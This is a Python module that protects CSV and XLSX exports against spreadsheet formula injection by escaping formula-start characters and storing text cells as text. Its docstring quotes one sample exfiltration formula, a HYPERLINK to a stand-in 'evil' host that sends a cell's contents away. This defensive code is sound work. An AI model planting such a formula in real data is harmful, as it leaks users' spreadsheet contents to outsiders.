"""Spreadsheet-safe tables: text that a spreadsheet never runs as a formula.

Names, ids, addresses and a provider's answers come from other people. A cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return) is a formula to
Excel, WPS and LibreOffice when a CSV file is opened — ``=HYPERLINK("http://evil/?"&A1)``
would send the sheet away. So every output goes through this module:

* CSV: a text cell that starts with one of those characters gets a leading ``'``
  (OWASP's advice); the readers of :mod:`geo.io` drop that ``'`` again, so a table
  written and read back is unchanged (:func:`neutralise`, :func:`restore`);
* XLSX: every text cell is stored as text, never as a formula, in a workbook with a
  styled, frozen header row, number formats and column widths (:func:`xlsx_bytes`),
  the same for a one-sheet download and for the report pack's ``report.xlsx``.
"""

from __future__ import annotations

import datetime as dt
import io
import unicodedata
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import numpy as np
import pandas as pd

__all__ = [
    "FIXED_TIME",
    "FORMULA_START",
    "ZIP_TIME",
    "Sheet",
    "neutralise",
    "neutralise_arrow",
    "restore",
    "xlsx_bytes",
]

#: Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PATTERN = r"^[=+\-@\t\r]"
_QUOTED = r"^'[=+\-@\t\r]"
#: Time written in the document properties when no date is given (same bytes on a re-run).
FIXED_TIME = dt.datetime(2000, 1, 1, 0, 0, 0)
#: Timestamp of every zip entry (the earliest a zip can hold).
ZIP_TIME = (1980, 1, 1, 0, 0, 0)


def _text_columns(table: pd.DataFrame) -> list[str]:
    return [c for c in table.columns
            if table[c].dtype == object or isinstance(table[c].dtype, pd.StringDtype)]


def neutralise(table: pd.DataFrame) -> pd.DataFrame:
    """The table with every text cell that could start a formula prefixed with ``'``.

    Parameters
    ----------
    table
        Any table (numbers, dates and booleans are left alone).

    Returns
    -------
    pandas.DataFrame
        The input itself when nothing needs a prefix, else a copy.
    """
    out = table
    for c in _text_columns(table):
        col = table[c]
        hit = col.str.match(_PATTERN, na=False).to_numpy(dtype=bool)
        if hit.any():
            if out is table:
                out = table.copy()
            fixed = col.astype(object).copy()
            fixed[hit] = "'" + col[hit].astype(str)
            out[c] = fixed
    return out


def neutralise_arrow(table: Any) -> Any:
    """:func:`neutralise` for a ``pyarrow.Table`` (the fast CSV writer's path).

    Parameters
    ----------
    table
        A ``pyarrow.Table``.

    Returns
    -------
    pyarrow.Table
    """
    import pyarrow as pa
    import pyarrow.compute as pc

    for i, name in enumerate(table.column_names):
        col = table.column(i)
        if not (pa.types.is_string(col.type) or pa.types.is_large_string(col.type)):
            continue
        starts = starts_with_any(col, FORMULA_START)
        if starts.any():
            hit = pa.array(starts)
            quoted = pc.binary_join_element_wise(pa.scalar("'", col.type), col, "")
            table = table.set_column(i, name, pc.if_else(hit, quoted, col))
    return table


def starts_with_any(col: Any, chars: Sequence[str]) -> np.ndarray:
    """Which cells of a pyarrow string column start with one of the ASCII ``chars``.

    One look at the first byte of each cell (an ASCII byte is never part of another
    character in UTF-8), not a regular expression over a million cells.

    Parameters
    ----------
    col
        A ``pyarrow`` (chunked) array of ``string`` or ``large_string``.
    chars
        Single ASCII characters.

    Returns
    -------
    numpy.ndarray of bool
        False for missing and empty cells.
    """
    import pyarrow as pa

    wanted = np.zeros(256, dtype=bool)
    wanted[[ord(c) for c in chars]] = True
    chunks = col.chunks if isinstance(col, pa.ChunkedArray) else [col]
    parts = []
    for chunk in chunks:
        n = len(chunk)
        if n == 0:
            continue
        wide = pa.types.is_large_string(chunk.type)
        _validity, offsets_buf, data_buf = chunk.buffers()
        offsets = np.frombuffer(offsets_buf, dtype=np.int64 if wide else np.int32)[
            chunk.offset : chunk.offset + n + 1]
        data = (np.frombuffer(data_buf, dtype=np.uint8) if data_buf is not None
                else np.zeros(0, dtype=np.uint8))
        nonempty = offsets[1:] > offsets[:-1]
        first = np.zeros(n, dtype=np.uint8)
        first[nonempty] = data[offsets[:-1][nonempty]]
        hit = wanted[first] & nonempty
        if chunk.null_count:
            hit &= chunk.is_valid().to_numpy(zero_copy_only=False)
        parts.append(hit)
    return np.concatenate(parts) if parts else np.zeros(0, dtype=bool)


def restore(values: pd.Series) -> pd.Series:
    """Drop the ``'`` that :func:`neutralise` put before a formula character.

    Parameters
    ----------
    values
        A text column as read from a CSV file.

    Returns
    -------
    pandas.Series
        The input itself when no cell starts with ``'`` and a formula character.
    """
    if not (values.dtype == object or isinstance(values.dtype, pd.StringDtype)):
        return values
    if isinstance(values.array, pd.arrays.ArrowStringArray) and not starts_with_any(
        values.array._pa_array, "'"
    ).any():
        return values  # no cell starts with ' (one look at each first byte)
    try:
        hit = values.str.match(_QUOTED, na=False).to_numpy(dtype=bool)
    except AttributeError:  # an object column holding no text (integers beyond int64)
        return values
    if not hit.any():
        return values
    out = values.copy()
    out[hit] = values[hit].astype(str).str.slice(1)
    return out


@dataclass
class Sheet:
    """One sheet of a workbook.

    Attributes
    ----------
    name
        The sheet's name (Chinese for Chinese workbooks; at most 31 characters).
    frame
        The table; its column names are the keys of ``formats``.
    headers
        The header row as shown (default: the column names).
    formats
        Column name → Excel number format (``0.0%``, ``#,##0``, ``0.000000``).
    cell_formats
        ``(row, column)`` (1-based, the header is row 1) → number format, for single cells.
    """

    name: str
    frame: pd.DataFrame
    headers: Sequence[str] | None = None
    formats: Mapping[str, str] = field(default_factory=dict)
    cell_formats: Mapping[tuple[int, int], str] = field(default_factory=dict)


def _clean(value: Any) -> Any:
    """A cell value openpyxl can store: plain Python numbers, text without control characters."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and not np.isfinite(value):
        return None
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    if isinstance(value, bool | int | float):
        return value
    if pd.isna(value):
        return None
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))


def _width(text: Any) -> int:
    s = "" if text is None else str(text)
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in s)


def _write_sheet(ws: Any, sheet: Sheet) -> None:
    """Header row (bold, filled, frozen, filtered), rows with text as text, formats, widths."""
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    frame = sheet.frame
    keys = [str(c) for c in frame.columns]
    ws.append([_clean(h) for h in (sheet.headers if sheet.headers is not None else keys)])
    columns = [frame[c].to_numpy(dtype=object) for c in frame.columns]
    for row in zip(*columns, strict=True) if columns else []:
        ws.append([_clean(v) for v in row])
    for cell in ws[1]:
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="E8EEF4")
        cell.alignment = Alignment(vertical="center", wrap_text=False)
        if isinstance(cell.value, str):
            cell.data_type = "s"
    ws.freeze_panes = "A2"
    if keys:
        ws.auto_filter.ref = f"A1:{get_column_letter(len(keys))}{max(len(frame) + 1, 1)}"
    for j, key in enumerate(keys, start=1):
        letter = get_column_letter(j)
        fmt = sheet.formats.get(key)
        cells = ws[letter][1:]
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, never a formula
            elif fmt and isinstance(cell.value, int | float) and not isinstance(cell.value, bool):
                cell.number_format = fmt
        widths = [_width(ws.cell(row=1, column=j).value) + 2]
        widths += [_width(c.value if not fmt else f"{c.value}") for c in cells[:2000]]
        ws.column_dimensions[letter].width = float(min(max(max(widths) + 2, 8), 60))
    for (r, c), fmt in sheet.cell_formats.items():
        ws.cell(row=r, column=c).number_format = fmt


def xlsx_bytes(
    sheets: Sequence[Sheet],
    *,
    title: str = "",
    when: dt.datetime | None = None,
) -> bytes:
    """A workbook whose text cells are text (never formulas), the same bytes for the same tables.

    Parameters
    ----------
    sheets
        The sheets, in order.
    title
        The document title (properties).
    when
        Created/modified time in the properties (default :data:`FIXED_TIME`).

    Returns
    -------
    bytes
        The XLSX file.
    """
    from openpyxl import Workbook
    from openpyxl.writer.excel import ExcelWriter

    wb = Workbook()
    wb.remove(wb.active)
    stamp = when or FIXED_TIME
    wb.properties.created = stamp
    wb.properties.modified = stamp
    wb.properties.creator = "geo"
    wb.properties.lastModifiedBy = "geo"
    wb.properties.title = title
    for sheet in sheets:
        _write_sheet(wb.create_sheet(sheet.name[:31]), sheet)
    raw = io.BytesIO()
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        ExcelWriter(wb, archive).write_data()
    raw.seek(0)
    out = io.BytesIO()
    with zipfile.ZipFile(raw) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o644 << 16
            dst.writestr(entry, src.read(info.filename))
    return out.getvalue()
